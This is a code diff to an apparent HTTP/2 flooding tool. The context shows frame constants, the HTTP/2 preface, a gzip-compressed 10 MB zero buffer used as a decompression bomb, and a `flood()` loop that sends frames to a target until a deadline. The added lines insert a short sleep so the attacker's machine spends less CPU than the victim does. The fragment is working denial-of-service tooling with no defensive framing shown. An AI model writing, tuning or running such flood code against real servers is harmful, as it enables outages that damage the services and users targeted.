@@ -15,6 +15,8 @@ _DATA, _HEADERS, _PRIORITY, _RESET, _SETTINGS, _PING, _WINDOW = 0, 1, 2, 3, 4, 6
 _END_STREAM, _END_HEADERS = 1, 4
 _BEGINNING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 _AT_ONCE = 64
+PAUSE_S = 0.005
+"""After so many frames: who sends them is to take less of this machine's processors than they do at the other end."""
 _ZEROS = gzip.compress(bytes(10_000_000))
 
 
@@ -81,6 +83,7 @@ def flood(where: tuple[str, int], until: float, kind: Callable[[int], bytes], so
                     if time.monotonic() >= until:
                         break
                     connection.sendall(parts)
+                    time.sleep(PAUSE_S)
         except OSError:
             time.sleep(0.01)
 
